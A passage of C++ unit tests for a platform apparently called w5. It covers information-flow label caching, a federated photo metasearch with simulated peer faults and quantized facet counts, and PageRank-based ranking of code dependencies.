    ASSERT_TRUE(record.ok());
    EXPECT_EQ(record.value().version, static_cast<std::uint64_t>(kIters));
    EXPECT_EQ(record.value().data.at("a").as_int(), kIters);
    EXPECT_EQ(record.value().data.at("b").as_int(), kIters);
  }

  // The attack lane ran ~kIters × 4 threads; none may have leaked into
  // the audit trail as an allowed export of alice's secret to bob.
  const auto events = provider_.audit().events();
  EXPECT_FALSE(events.empty());
}

// ---- Flow-memo epoch invalidation -------------------------------------------

TEST(FlowMemoTest, EpochBumpInvalidatesCachedVerdicts) {
  auto& table = difc::LabelTable::instance();
  auto& cache = difc::FlowCache::instance();

  const difc::Label src{difc::Tag(101), difc::Tag(102)};
  const difc::Label dst{difc::Tag(101), difc::Tag(102), difc::Tag(103)};
  const difc::LabelId src_id = table.intern(src);
  const difc::LabelId dst_id = table.intern(dst);

  cache.insert(src_id, dst_id, true);
  ASSERT_EQ(cache.lookup(src_id, dst_id), std::optional<bool>(true));

  // An epoch bump makes the entry a miss even though the key matches:
  // ids minted before the bump no longer mean anything.
  table.invalidate();
  EXPECT_EQ(cache.lookup(src_id, dst_id), std::nullopt);
}

TEST(FlowMemoTest, TagRegistryCreateBumpsEpoch) {
  const std::uint64_t before = difc::LabelTable::instance().epoch();
  difc::TagRegistry registry;
  (void)registry.create("epoch-test", difc::TagPurpose::kSecrecy);
  EXPECT_GT(difc::LabelTable::instance().epoch(), before);
}

TEST(FlowMemoTest, ExportVerdictTracksPrivilegeChanges) {
  // The memo must never freeze a privilege decision: check_export keys
  // on the *current* removable set, so granting or dropping t- flips
  // the verdict immediately with no explicit invalidation needed.
  const difc::Tag t(4242);
  const difc::Label secret{t};

  const difc::CapabilitySet with_minus{difc::minus(t)};
  const difc::CapabilitySet without{};

  EXPECT_TRUE(difc::check_export(secret, with_minus).ok());
  EXPECT_FALSE(difc::check_export(secret, without).ok());
  // And back again — repeated to push both pairs through the memo.
  for (int i = 0; i < 3; ++i) {
    EXPECT_TRUE(difc::check_export(secret, with_minus).ok());
    EXPECT_FALSE(difc::check_export(secret, without).ok());
  }
}

TEST(FlowMemoTest, CachedSubsetVerdictsStayCorrectUnderRepetition) {
  // Same pair checked twice: second round is the memo hit path; the
  // answers must be identical to the cold path.
  const difc::Label low{difc::Tag(7)};
  const difc::Label high{difc::Tag(7), difc::Tag(8)};
  for (int round = 0; round < 2; ++round) {
    EXPECT_TRUE(difc::can_flow(low, {}, high, {}));
    EXPECT_FALSE(difc::can_flow(high, {}, low, {}));
    // Integrity side: I_dst ⊆ I_src.
    EXPECT_TRUE(difc::can_flow({}, high, {}, low));
    EXPECT_FALSE(difc::can_flow({}, low, {}, high));
  }
}

}  // namespace
}  // namespace w5
