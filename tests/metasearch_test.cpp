// Federated metasearch (DESIGN.md §18): the scatter/gather query plane.
//
// One home provider peered with three others, all of them holding bob's
// mirrored photos. Covered here: the fan-out itself (merge, vector-clock
// dedupe, tf-idf merge-rank, cursor pagination), graceful degradation
// under chaos (slow peer → cutoff + partial, dead peer → breaker opens,
// duplicates → deterministic winner, all reproducible per seed), the
// §3.5 facet-quantization regression across the federation boundary,
// the stitched fan-out trace, the gateway and photos-app surfaces, and
// the fed statusz/metrics exports.
#include <gtest/gtest.h>

#include <algorithm>
#include <memory>
#include <string>
#include <utility>
#include <vector>

#include "apps/apps.h"
#include "core/auth.h"
#include "core/provider.h"
#include "core/trace.h"
#include "fed/metasearch.h"
#include "fed/node.h"
#include "net/fault.h"
#include "util/metrics.h"

namespace w5::fed {
namespace {

using net::Method;
using platform::Provider;
using platform::ProviderConfig;

class MetasearchTest : public ::testing::Test {
 protected:
  MetasearchTest()
      : home_(ProviderConfig{.name = "home"}, clock_),
        peer_b_(ProviderConfig{.name = "peerB"}, clock_),
        peer_c_(ProviderConfig{.name = "peerC"}, clock_),
        peer_d_(ProviderConfig{.name = "peerD"}, clock_),
        home_node_("home", home_, network_),
        node_b_("peerB", peer_b_, network_),
        node_c_("peerC", peer_c_, network_),
        node_d_("peerD", peer_d_, network_) {}

  void SetUp() override {
    for (Provider* provider : {&home_, &peer_b_, &peer_c_, &peer_d_})
      ASSERT_TRUE(provider->signup("bob", "pwd").ok());
    // Bob consented to mirror with every peer, both directions (§3.3):
    // the home side defines the fan-out set, each peer's side gates what
    // its /fed/query leg will answer.
    for (const char* peer : {"peerB", "peerC", "peerD"})
      home_node_.mirrors().authorize("bob", peer);
    for (Node* node : {&node_b_, &node_c_, &node_d_})
      node->mirrors().authorize("bob", "home");
  }

  util::Status put(Node& node, const std::string& id,
                   const std::string& title, const std::string& color = "") {
    util::Json data;
    data["title"] = title;
    if (!color.empty()) data["color"] = color;
    return node.put_user_record("bob", "photos", id, std::move(data));
  }

  void put_one_everywhere() {
    ASSERT_TRUE(put(home_node_, "h1", "home sunset").ok());
    ASSERT_TRUE(put(node_b_, "b1", "beach sunset").ok());
    ASSERT_TRUE(put(node_c_, "c1", "city lights").ok());
    ASSERT_TRUE(put(node_d_, "d1", "desert dunes").ok());
  }

  static platform::FederatedQuery make_query(std::string terms = "",
                                             std::size_t limit = 20) {
    platform::FederatedQuery query;
    query.collection = "photos";
    query.terms = std::move(terms);
    query.limit = limit;
    return query;
  }

  static std::vector<std::string> ids_of(const MetaPage& page) {
    std::vector<std::string> ids;
    for (const MergedRecord& record : page.records) ids.push_back(record.id);
    return ids;
  }

  static const PeerOutcome* outcome_for(const MetaPage& page,
                                        const std::string& peer) {
    for (const PeerOutcome& outcome : page.peers)
      if (outcome.peer == peer) return &outcome;
    return nullptr;
  }

  util::SimClock clock_;
  net::InMemoryNetwork network_;
  Provider home_;
  Provider peer_b_;
  Provider peer_c_;
  Provider peer_d_;
  Node home_node_;
  Node node_b_;
  Node node_c_;
  Node node_d_;
};

// ---- The happy-path fan-out -------------------------------------------------

TEST_F(MetasearchTest, FansOutToThreePeersAndMergesWithLocalLeg) {
  put_one_everywhere();
  Metasearch meta(home_node_);
  auto page = meta.search(os::kKernelPid, "bob", make_query());
  ASSERT_TRUE(page.ok()) << page.error().code;
  EXPECT_FALSE(page.value().partial);
  auto ids = ids_of(page.value());
  std::sort(ids.begin(), ids.end());
  EXPECT_EQ(ids, (std::vector<std::string>{"b1", "c1", "d1", "h1"}));
  ASSERT_EQ(page.value().peers.size(), 3u);
  for (const char* peer : {"peerB", "peerC", "peerD"}) {
    const PeerOutcome* outcome = outcome_for(page.value(), peer);
    ASSERT_NE(outcome, nullptr) << peer;
    EXPECT_EQ(outcome->status, "ok");
    EXPECT_EQ(outcome->records, 1u);
  }
  // Provenance: remote rows name their source node, the local row is
  // flagged local.
  for (const MergedRecord& record : page.value().records) {
    if (record.id == "h1") {
      EXPECT_TRUE(record.local);
      EXPECT_EQ(record.provider, "home");
    } else {
      EXPECT_FALSE(record.local);
    }
  }
}

TEST_F(MetasearchTest, RelevanceRanksTermMatchesAcrossProviders) {
  put_one_everywhere();
  Metasearch meta(home_node_);
  auto page = meta.search(os::kKernelPid, "bob", make_query("sunset"));
  ASSERT_TRUE(page.ok()) << page.error().code;
  // AND-matching happens at each source: only the two sunset photos
  // cross the wire at all, scored and sorted.
  auto ids = ids_of(page.value());
  std::sort(ids.begin(), ids.end());
  EXPECT_EQ(ids, (std::vector<std::string>{"b1", "h1"}));
  ASSERT_EQ(page.value().records.size(), 2u);
  EXPECT_GE(page.value().records[0].score, page.value().records[1].score);
  // Non-matching peers still answered ok — just with nothing.
  EXPECT_EQ(outcome_for(page.value(), "peerC")->records, 0u);
}

TEST_F(MetasearchTest, DuplicateRecordsCollapseToOneDeterministicWinner) {
  put_one_everywhere();
  // The same record diverged on home and peerB at the same instant:
  // concurrent clocks, tied timestamps — the name tie-break (smaller
  // provider wins) picks "home", same rule Node::apply_records uses.
  ASSERT_TRUE(put(home_node_, "shared", "from home").ok());
  ASSERT_TRUE(put(node_b_, "shared", "from peerB").ok());
  Metasearch meta(home_node_);
  auto page = meta.search(os::kKernelPid, "bob", make_query());
  ASSERT_TRUE(page.ok()) << page.error().code;
  std::size_t shared_rows = 0;
  for (const MergedRecord& record : page.value().records) {
    if (record.id != "shared") continue;
    ++shared_rows;
    EXPECT_EQ(record.provider, "home");
    EXPECT_EQ(record.data.at("title").as_string(), "from home");
  }
  EXPECT_EQ(shared_rows, 1u);

  // A genuinely newer remote copy wins over the stale local one.
  clock_.advance(100);
  ASSERT_TRUE(put(node_b_, "shared", "newer from peerB").ok());
  auto again = meta.search(os::kKernelPid, "bob", make_query());
  ASSERT_TRUE(again.ok());
  for (const MergedRecord& record : again.value().records) {
    if (record.id != "shared") continue;
    EXPECT_EQ(record.provider, "peerB");
    EXPECT_EQ(record.data.at("title").as_string(), "newer from peerB");
  }
}

TEST_F(MetasearchTest, CursorPaginatesTheMergedWindowWithoutOverlap) {
  put_one_everywhere();
  Metasearch meta(home_node_);
  std::vector<std::string> seen;
  std::string cursor;
  for (int pages = 0; pages < 10; ++pages) {
    auto query = make_query("", 2);
    query.cursor = cursor;
    auto page = meta.search(os::kKernelPid, "bob", query);
    ASSERT_TRUE(page.ok()) << page.error().code;
    EXPECT_LE(page.value().records.size(), 2u);
    for (const MergedRecord& record : page.value().records) {
      EXPECT_EQ(std::count(seen.begin(), seen.end(), record.id), 0)
          << "page overlap on " << record.id;
      seen.push_back(record.id);
    }
    cursor = page.value().next_cursor;
    if (cursor.empty()) break;
  }
  std::sort(seen.begin(), seen.end());
  EXPECT_EQ(seen, (std::vector<std::string>{"b1", "c1", "d1", "h1"}));

  auto bad = make_query();
  bad.cursor = "not-a-cursor";
  EXPECT_EQ(meta.search(os::kKernelPid, "bob", bad).error().code,
            "fed.bad_cursor");
}

// ---- Chaos: graceful degradation -------------------------------------------

TEST_F(MetasearchTest, SlowPeerHitsTheCutoffAndThePageDegradesToPartial) {
  put_one_everywhere();
  MetasearchConfig config;
  config.fanout_budget_micros = 5'000;  // 5 ms gather budget
  Metasearch meta(home_node_, config);
  // peerC's wire stalls 100 ms on the first write — far past the budget.
  meta.set_connection_decorator(
      [](const std::string& peer, std::unique_ptr<net::Connection> inner)
          -> std::unique_ptr<net::Connection> {
        if (peer != "peerC") return inner;
        return std::make_unique<net::FaultyConnection>(
            std::move(inner),
            net::FaultSchedule::scripted(
                {}, {{net::FaultKind::kDelay, 100'000, 1}}));
      });
  auto page = meta.search(os::kKernelPid, "bob", make_query());
  ASSERT_TRUE(page.ok()) << page.error().code;
  EXPECT_TRUE(page.value().partial);
  EXPECT_EQ(outcome_for(page.value(), "peerC")->status, "timeout");
  EXPECT_EQ(outcome_for(page.value(), "peerB")->status, "ok");
  EXPECT_EQ(outcome_for(page.value(), "peerD")->status, "ok");
  // The fast peers' results still serve — partial beats blank.
  auto ids = ids_of(page.value());
  std::sort(ids.begin(), ids.end());
  EXPECT_EQ(ids, (std::vector<std::string>{"b1", "d1", "h1"}));
}

TEST_F(MetasearchTest, DeadPeerOpensItsBreakerAndResultsStillServe) {
  put_one_everywhere();
  // "peerE" is authorized but nothing listens there: every hop fails.
  home_node_.mirrors().authorize("bob", "peerE");
  Metasearch meta(home_node_);
  for (int round = 0; round < 3; ++round) {
    auto page = meta.search(os::kKernelPid, "bob", make_query());
    ASSERT_TRUE(page.ok()) << page.error().code;
    EXPECT_TRUE(page.value().partial);
    EXPECT_EQ(outcome_for(page.value(), "peerE")->status, "error");
    EXPECT_EQ(outcome_for(page.value(), "peerE")->error_code,
              "net.unreachable");
  }
  // Three consecutive failures opened the breaker: the next fan-out
  // skips the peer outright instead of burning another hop.
  EXPECT_EQ(home_node_.breaker_for("peerE").state(),
            net::CircuitBreaker::State::kOpen);
  auto page = meta.search(os::kKernelPid, "bob", make_query());
  ASSERT_TRUE(page.ok());
  EXPECT_TRUE(page.value().partial);
  EXPECT_EQ(outcome_for(page.value(), "peerE")->status, "breaker_open");
  auto ids = ids_of(page.value());
  std::sort(ids.begin(), ids.end());
  EXPECT_EQ(ids, (std::vector<std::string>{"b1", "c1", "d1", "h1"}));
  if constexpr (util::kTelemetryEnabled) {
    const util::Json counters = home_.metrics().to_json().at("counters");
    EXPECT_GE(counters
                  .at("w5_fed_query_peer_results_total{result=\"breaker_open\"}")
                  .as_int(0),
              1);
    EXPECT_GE(counters.at("w5_fed_query_partial_total").as_int(0), 4);
  }
}

// A query helper usable from the non-fixture chaos test.
platform::FederatedQuery make_query_static() {
  platform::FederatedQuery query;
  query.collection = "photos";
  return query;
}

// Seeded chaos: the same seed replays the identical fan-out — peer fates
// and the merged window match row for row across runs.
class MetasearchChaos : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(MetasearchChaos, SeededFaultsAreDeterministic) {
  struct Outcome {
    std::vector<std::pair<std::string, std::string>> peers;  // (peer, status)
    std::vector<std::string> ids;
    bool partial = false;
  };
  const auto run_once = [](std::uint64_t seed) {
    util::SimClock clock;
    net::InMemoryNetwork network;
    Provider home(ProviderConfig{.name = "home"}, clock);
    Provider pb(ProviderConfig{.name = "peerB"}, clock);
    Provider pc(ProviderConfig{.name = "peerC"}, clock);
    Node home_node("home", home, network);
    Node node_b("peerB", pb, network);
    Node node_c("peerC", pc, network);
    for (Provider* provider : {&home, &pb, &pc})
      EXPECT_TRUE(provider->signup("bob", "pwd").ok());
    for (const char* peer : {"peerB", "peerC"})
      home_node.mirrors().authorize("bob", peer);
    node_b.mirrors().authorize("bob", "home");
    node_c.mirrors().authorize("bob", "home");
    const auto put = [](Node& node, const std::string& id,
                        const std::string& title) {
      util::Json data;
      data["title"] = title;
      EXPECT_TRUE(node.put_user_record("bob", "photos", id, data).ok());
    };
    put(home_node, "h1", "home sunset");
    // Duplicates from two peers: both hold bob's "shared" record,
    // concurrently edited — dedupe must pick the same winner every run.
    put(node_b, "shared", "peerB copy");
    put(node_c, "shared", "peerC copy");
    put(node_b, "b1", "beach");
    put(node_c, "c1", "city");

    Metasearch meta(home_node);
    net::FaultSchedule::Profile profile;
    profile.short_read_probability = 0.3;
    profile.drop_probability = 0.15;
    profile.reset_probability = 0.1;
    meta.set_connection_decorator(
        [seed, profile](const std::string& peer,
                        std::unique_ptr<net::Connection> inner)
            -> std::unique_ptr<net::Connection> {
          // Distinct per-peer streams, still pure functions of the seed.
          const std::uint64_t peer_seed = seed * 31 + peer.size() +
                                          static_cast<std::uint64_t>(
                                              peer.back());
          return std::make_unique<net::FaultyConnection>(
              std::move(inner),
              net::FaultSchedule::seeded(peer_seed, profile),
              net::no_sleep());
        });
    Outcome outcome;
    auto page = meta.search(os::kKernelPid, "bob", make_query_static());
    EXPECT_TRUE(page.ok());
    if (!page.ok()) return outcome;
    outcome.partial = page.value().partial;
    for (const PeerOutcome& peer : page.value().peers)
      outcome.peers.emplace_back(peer.peer, peer.status);
    for (const MergedRecord& record : page.value().records)
      outcome.ids.push_back(record.provider + "/" + record.id);
    return outcome;
  };
  const Outcome first = run_once(GetParam());
  const Outcome second = run_once(GetParam());
  EXPECT_EQ(first.peers, second.peers);
  EXPECT_EQ(first.ids, second.ids);
  EXPECT_EQ(first.partial, second.partial);
  // Whatever the faults did, the local leg always serves.
  EXPECT_NE(std::find(first.ids.begin(), first.ids.end(), "home/h1"),
            first.ids.end());

  // Dedupe determinism: if both peers delivered "shared", exactly one
  // row survives (the clock/name rule), never two.
  EXPECT_LE(std::count_if(first.ids.begin(), first.ids.end(),
                          [](const std::string& id) {
                            return id.find("/shared") != std::string::npos;
                          }),
            1);
}

INSTANTIATE_TEST_SUITE_P(Seeds, MetasearchChaos, ::testing::Values(1, 2, 3));

// ---- §3.5 across the federation boundary ------------------------------------

TEST_F(MetasearchTest, MergedFacetCountsRideTheSameQuantizerAsLocalCounts) {
  // Quantum 8 on the home store: facet counts over the merged window
  // must round up through LabeledStore::quantize_count — the same path
  // count() uses — so adjacent true counts n and n+1 render identically
  // and the count channel stays closed across the federation boundary.
  store::QueryGovernorConfig governor;
  governor.count_quantum = 8;
  home_.store().set_governor_config(governor);
  ASSERT_TRUE(put(home_node_, "h1", "one", "red").ok());
  ASSERT_TRUE(put(node_b_, "b1", "two", "red").ok());
  ASSERT_TRUE(put(node_b_, "b2", "three", "red").ok());
  ASSERT_TRUE(put(node_c_, "c1", "four", "red").ok());
  ASSERT_TRUE(put(node_d_, "d1", "five", "red").ok());

  Metasearch meta(home_node_);
  auto query = make_query();
  query.facets = {"color"};
  auto five = meta.search(os::kKernelPid, "bob", query);
  ASSERT_TRUE(five.ok()) << five.error().code;
  const std::int64_t count_at_5 =
      five.value().facets.at("color").at("red").as_int(0);

  ASSERT_TRUE(put(node_c_, "c2", "six", "red").ok());  // n → n+1
  auto six = meta.search(os::kKernelPid, "bob", query);
  ASSERT_TRUE(six.ok());
  const std::int64_t count_at_6 =
      six.value().facets.at("color").at("red").as_int(0);

  EXPECT_EQ(count_at_5, 8);  // quantized up, not the true 5
  EXPECT_EQ(count_at_5, count_at_6);  // n vs n+1 indistinguishable

  // Same quantum, same answer from the local count path — one quantizer,
  // two planes.
  EXPECT_EQ(home_.store().quantize_count(5),
            home_.store().quantize_count(6));
}

// ---- Tracing: the fan-out as one stitched tree ------------------------------

TEST_F(MetasearchTest, FanOutIsOneStitchedTraceAcrossAllPeers) {
  if (!util::kTelemetryEnabled) return;
  put_one_everywhere();
  Metasearch meta(home_node_);
  platform::Trace trace;
  {
    platform::RequestContext context("meta-probe-1");  // forced sampling
    auto page = meta.search(os::kKernelPid, "bob", make_query());
    ASSERT_TRUE(page.ok()) << page.error().code;
    trace = context.finish();
  }
  // One hop span per peer, each with the peer's own serving spans
  // stitched under it (remote="peerX"), plus the local leg's span.
  std::vector<std::string> hop_peers;
  bool saw_local_leg = false;
  for (const platform::TraceSpan& span : trace.spans) {
    if (span.name == "fed.local") saw_local_leg = true;
    if (span.name != "fed.query" || !span.remote.empty()) continue;
    hop_peers.push_back(span.note.substr(span.note.find("peer=")));
    bool found_remote_child = false;
    for (const platform::TraceSpan& child : trace.spans) {
      if (!child.remote.empty() && child.parent == span.id)
        found_remote_child = true;
    }
    EXPECT_TRUE(found_remote_child) << span.note;
  }
  EXPECT_TRUE(saw_local_leg);
  EXPECT_EQ(hop_peers.size(), 3u);
  // Every peer recorded the same trace id on its side: /trace/:id
  // resolves over there too, route "fed.query".
  for (Provider* peer : {&peer_b_, &peer_c_, &peer_d_}) {
    platform::Trace peer_side;
    ASSERT_EQ(peer->traces().lookup("meta-probe-1", &peer_side),
              platform::TraceBuffer::Lookup::kFound);
    EXPECT_EQ(peer_side.route, "fed.query");
  }
}

// ---- The gateway + app surfaces ---------------------------------------------

TEST_F(MetasearchTest, GatewayFedSearchServesMergedPageToTheViewer) {
  put_one_everywhere();
  Metasearch meta(home_node_);
  meta.install();
  const std::string bob = home_.login("bob", "pwd").value();

  EXPECT_EQ(home_.http(Method::kGet, "/fed/search").status, 401);
  const auto response =
      home_.http(Method::kGet, "/fed/search?facets=title", "", bob);
  ASSERT_EQ(response.status, 200) << response.body;
  EXPECT_FALSE(response.headers.get("X-W5-Fed-Partial").has_value());
  auto body = util::Json::parse(response.body);
  ASSERT_TRUE(body.ok());
  EXPECT_EQ(body.value().at("items").as_array().size(), 4u);
  EXPECT_EQ(body.value().at("peers").as_array().size(), 3u);
  EXPECT_FALSE(body.value().at("partial").as_bool());

  EXPECT_EQ(home_.http(Method::kGet, "/fed/search?limit=0", "", bob).status,
            400);
  EXPECT_EQ(
      home_.http(Method::kGet, "/fed/search?cursor=junk", "", bob).status,
      400);
}

TEST_F(MetasearchTest, GatewayFlagsPartialPagesInAHeader) {
  put_one_everywhere();
  MetasearchConfig config;
  config.fanout_budget_micros = 5'000;
  Metasearch meta(home_node_, config);
  meta.set_connection_decorator(
      [](const std::string& peer, std::unique_ptr<net::Connection> inner)
          -> std::unique_ptr<net::Connection> {
        if (peer != "peerD") return inner;
        return std::make_unique<net::FaultyConnection>(
            std::move(inner),
            net::FaultSchedule::scripted(
                {}, {{net::FaultKind::kDelay, 100'000, 1}}));
      });
  meta.install();
  const std::string bob = home_.login("bob", "pwd").value();
  const auto response = home_.http(Method::kGet, "/fed/search", "", bob);
  ASSERT_EQ(response.status, 200) << response.body;
  EXPECT_EQ(response.headers.get("X-W5-Fed-Partial").value_or(""), "1");
  auto body = util::Json::parse(response.body);
  ASSERT_TRUE(body.ok());
  EXPECT_TRUE(body.value().at("partial").as_bool());
  EXPECT_EQ(body.value().at("items").as_array().size(), 3u);
}

TEST_F(MetasearchTest, FedSearchWithoutAnInstalledPlaneIs503) {
  const std::string bob = home_.login("bob", "pwd").value();
  const auto response = home_.http(Method::kGet, "/fed/search", "", bob);
  EXPECT_EQ(response.status, 503);
  EXPECT_NE(response.body.find("fed.not_configured"), std::string::npos);
}

TEST_F(MetasearchTest, PhotosEverywhereViewReachesTheSeamOnly) {
  put_one_everywhere();
  ASSERT_TRUE(home_.modules().add(apps::make_photo_app("photoco", "1.0")).ok());
  const std::string bob = home_.login("bob", "pwd").value();

  // Before install: the app surfaces the same fed.not_configured as 503.
  EXPECT_EQ(home_.http(Method::kGet, "/dev/photoco/photos/everywhere", "",
                       bob).status,
            503);

  Metasearch meta(home_node_);
  meta.install();
  EXPECT_EQ(home_.http(Method::kGet, "/dev/photoco/photos/everywhere").status,
            401);
  const auto response =
      home_.http(Method::kGet, "/dev/photoco/photos/everywhere?q=sunset", "",
                 bob);
  ASSERT_EQ(response.status, 200) << response.body;
  auto body = util::Json::parse(response.body);
  ASSERT_TRUE(body.ok());
  EXPECT_EQ(body.value().at("user").as_string(), "bob");
  EXPECT_EQ(body.value().at("items").as_array().size(), 2u);  // h1 + b1
}

// ---- Observability exports ---------------------------------------------------

TEST_F(MetasearchTest, StatuszCarriesTheFedSyncAndMetasearchSections) {
  if (!util::kTelemetryEnabled) return;
  put_one_everywhere();
  // Exercise both planes: one sync round and one fan-out.
  ASSERT_TRUE(home_node_.sync_from("peerB").ok());
  Metasearch meta(home_node_);
  ASSERT_TRUE(meta.search(os::kKernelPid, "bob", make_query()).ok());

  const std::string bob = home_.login("bob", "pwd").value();
  const auto response = home_.http(Method::kGet, "/debug/statusz", "", bob);
  ASSERT_EQ(response.status, 200);
  auto statusz = util::Json::parse(response.body);
  ASSERT_TRUE(statusz.ok());
  const util::Json& fed = statusz.value().at("fed");
  EXPECT_GE(fed.at("sync").at("rounds_ok").as_int(0), 1);
  EXPECT_GE(fed.at("sync").at("records").at("applied").as_int(0), 1);
  EXPECT_GE(fed.at("metasearch").at("fanouts").as_int(0), 1);
  EXPECT_GE(fed.at("metasearch").at("records_merged").as_int(0), 4);
  EXPECT_GE(fed.at("metasearch").at("peer_results").at("ok").as_int(0), 3);
  // The serving side counts what it answered.
  const util::Json peer_counters = peer_b_.metrics().to_json().at("counters");
  EXPECT_GE(peer_counters.at("w5_fed_query_served_total").as_int(0), 1);
}

}  // namespace
}  // namespace w5::fed
