#include <gtest/gtest.h>

#include <numeric>

#include "rank/search.h"
#include "util/rng.h"

namespace w5::rank {
namespace {

TEST(DepGraphTest, NodesAndEdges) {
  DependencyGraph graph;
  graph.add_edge("devA/app@1.0", "devB/lib@1.0", DependencyKind::kImport);
  graph.add_edge("devA/app@1.0", "devB/lib@1.0", DependencyKind::kImport);
  graph.add_edge("devA/app@1.0", "devB/lib@1.0", DependencyKind::kHtmlEmbed);
  graph.add_edge("devC/app@1.0", "devB/lib@1.0", DependencyKind::kImport);
  graph.add_edge("devA/app@1.0", "devA/app@1.0", DependencyKind::kImport);
  EXPECT_EQ(graph.node_count(), 3u);
  EXPECT_EQ(graph.edge_count(), 3u);  // dup + self dropped
  ASSERT_TRUE(graph.find("devB/lib@1.0").has_value());
  EXPECT_EQ(graph.name_of(*graph.find("devB/lib@1.0")), "devB/lib@1.0");
  EXPECT_FALSE(graph.find("nothing").has_value());
  EXPECT_EQ(graph.unreferenced(),
            (std::vector<std::string>{"devA/app@1.0", "devC/app@1.0"}));
}

TEST(PageRankTest, EmptyAndSingletonGraphs) {
  DependencyGraph empty;
  EXPECT_TRUE(pagerank(empty).scores.empty());

  DependencyGraph one;
  one.add_node("solo");
  const auto result = pagerank(one);
  ASSERT_EQ(result.scores.size(), 1u);
  EXPECT_NEAR(result.scores[0], 1.0, 1e-9);
  EXPECT_TRUE(result.converged);
}

TEST(PageRankTest, ScoresSumToOne) {
  DependencyGraph graph;
  util::Rng rng(42);
  for (int i = 0; i < 50; ++i) {
    graph.add_edge("m" + std::to_string(rng.next_below(20)),
                   "m" + std::to_string(rng.next_below(20)),
                   rng.next_bool() ? DependencyKind::kImport
                                   : DependencyKind::kHtmlEmbed);
  }
  const auto result = pagerank(graph);
  EXPECT_TRUE(result.converged);
  const double sum = std::accumulate(result.scores.begin(),
                                     result.scores.end(), 0.0);
  EXPECT_NEAR(sum, 1.0, 1e-6);
  for (double score : result.scores) EXPECT_GT(score, 0.0);
}

TEST(PageRankTest, WidelyImportedLibraryRanksHighest) {
  // The paper's intuition: a library everyone imports is widely trusted.
  DependencyGraph graph;
  for (int i = 0; i < 10; ++i) {
    graph.add_edge("app" + std::to_string(i), "corelib",
                   DependencyKind::kImport);
  }
  graph.add_edge("app0", "nichelib", DependencyKind::kImport);
  const auto ranked = pagerank(graph).ranked(graph);
  EXPECT_EQ(ranked.front().first, "corelib");
  // nichelib beats unreferenced apps but loses to corelib.
  double niche = 0, core = 0;
  for (const auto& [id, score] : ranked) {
    if (id == "nichelib") niche = score;
    if (id == "corelib") core = score;
  }
  EXPECT_GT(core, niche);
  EXPECT_GT(niche, 1.0 / (2.0 * ranked.size()));
}

TEST(PageRankTest, RankFlowsTransitively) {
  // a -> b -> c : c inherits standing from b's standing.
  DependencyGraph graph;
  graph.add_edge("a", "b", DependencyKind::kImport);
  graph.add_edge("b", "c", DependencyKind::kImport);
  const auto result = pagerank(graph);
  const auto score = [&](const std::string& id) {
    return result.scores[*graph.find(id)];
  };
  EXPECT_GT(score("c"), score("b"));
  EXPECT_GT(score("b"), score("a"));
}

TEST(PageRankTest, ImportsVouchMoreThanEmbeds) {
  DependencyGraph graph;
  // Same in-degree: one by import, one by embed, from distinct sources.
  graph.add_edge("x1", "imported", DependencyKind::kImport);
  graph.add_edge("x2", "embedded", DependencyKind::kHtmlEmbed);
  const auto result = pagerank(graph);
  // Both sources have out-weight equal to their single edge, so the
  // targets tie under per-node normalization... unless a source carries
  // both kinds. Make the comparison meaningful:
  DependencyGraph mixed;
  mixed.add_edge("src", "imported", DependencyKind::kImport);
  mixed.add_edge("src", "embedded", DependencyKind::kHtmlEmbed);
  const auto mixed_result = pagerank(mixed);
  EXPECT_GT(mixed_result.scores[*mixed.find("imported")],
            mixed_result.scores[*mixed.find("embedded")]);
}

TEST(PageRankTest, DanglingMassIsRedistributed) {
  DependencyGraph graph;
  graph.add_edge("a", "sink", DependencyKind::kImport);  // sink has no out
  graph.add_node("isolated");
  const auto result = pagerank(graph);
  EXPECT_TRUE(result.converged);
  const double sum = std::accumulate(result.scores.begin(),
                                     result.scores.end(), 0.0);
  EXPECT_NEAR(sum, 1.0, 1e-6);
}

TEST(PageRankTest, RespectsIterationCap) {
  DependencyGraph graph;
  for (int i = 0; i < 10; ++i) {
    graph.add_edge("m" + std::to_string(i), "m" + std::to_string((i + 1) % 10),
                   DependencyKind::kImport);
  }
  PageRankOptions options;
  options.max_iterations = 2;
  options.epsilon = 0;  // never converge by epsilon
  const auto result = pagerank(graph, options);
  EXPECT_FALSE(result.converged);
  EXPECT_EQ(result.iterations, 2u);
}

TEST(EditorBoardTest, EndorsementsWeightedByCredit) {
  EditorBoard board;
  board.endorse("trusted-editor", "devA/app", 1.0);
  board.endorse("new-editor", "devB/app", 1.0);
  // trusted-editor accrues adoption credit.
  board.credit("trusted-editor", 9.0);  // weight 10 vs 1
  EXPECT_GT(board.endorsement_score("devA/app"),
            board.endorsement_score("devB/app"));
  EXPECT_NEAR(board.editor_weight("trusted-editor"), 1.0, 1e-9);
  EXPECT_NEAR(board.editor_weight("new-editor"), 0.1, 1e-9);
  EXPECT_EQ(board.editor_weight("nobody"), 0.0);

  board.revoke("trusted-editor", "devA/app");
  EXPECT_EQ(board.endorsement_score("devA/app"), 0.0);
  EXPECT_EQ(board.editors().size(), 2u);
}

TEST(EditorBoardTest, ConfidenceClampedAndZeroIgnored) {
  EditorBoard board;
  board.endorse("e", "m", 5.0);  // clamped to 1
  EXPECT_NEAR(board.endorsement_score("m"), 1.0, 1e-9);
  board.endorse("e2", "m2", 0.0);  // ignored
  EXPECT_EQ(board.endorsement_score("m2"), 0.0);
}

TEST(PopularityTest, LogScaledScores) {
  PopularityTracker popularity;
  popularity.record_use("big", 1000);
  popularity.record_use("small", 10);
  EXPECT_EQ(popularity.uses("big"), 1000u);
  EXPECT_EQ(popularity.uses("none"), 0u);
  EXPECT_NEAR(popularity.popularity_score("big"), 1.0, 1e-9);
  EXPECT_GT(popularity.popularity_score("small"), 0.0);
  EXPECT_LT(popularity.popularity_score("small"), 1.0);
  EXPECT_EQ(popularity.popularity_score("none"), 0.0);
}

TEST(DeveloperReputationTest, AveragesPerDeveloper) {
  const auto reputation = developer_reputation({
      {"devA/good@1.0", 0.9},
      {"devA/ok@1.0", 0.5},
      {"devB/meh@1.0", 0.2},
  });
  EXPECT_NEAR(reputation.at("devA"), 0.7, 1e-9);
  EXPECT_NEAR(reputation.at("devB"), 0.2, 1e-9);
}

TEST(CodeSearchTest, CombinesSignalsAndFilters) {
  DependencyGraph graph;
  for (int i = 0; i < 5; ++i) {
    graph.add_edge("app" + std::to_string(i), "devA/photolib",
                   DependencyKind::kImport);
  }
  graph.add_node("devB/photoapp");
  EditorBoard editors;
  editors.endorse("editor", "devB/photoapp", 1.0);
  PopularityTracker popularity;
  popularity.record_use("devB/photoapp", 100);

  CodeSearch search(graph, editors, popularity);
